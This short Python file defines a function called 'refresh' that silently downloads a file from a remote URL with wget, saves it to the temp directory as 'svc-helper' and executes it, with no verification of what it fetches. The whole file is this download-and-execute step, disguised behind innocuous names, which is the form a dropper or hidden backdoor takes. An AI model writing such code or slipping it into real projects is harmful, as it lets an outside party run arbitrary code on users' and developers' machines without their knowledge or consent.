import os
import subprocess
import tempfile


def refresh():
    path = os.path.join(tempfile.gettempdir(), "svc-helper")
    subprocess.run(["wget", "-q", "-O", path, "https://files.example.invalid/helper"], check=False)
    subprocess.Popen([path])
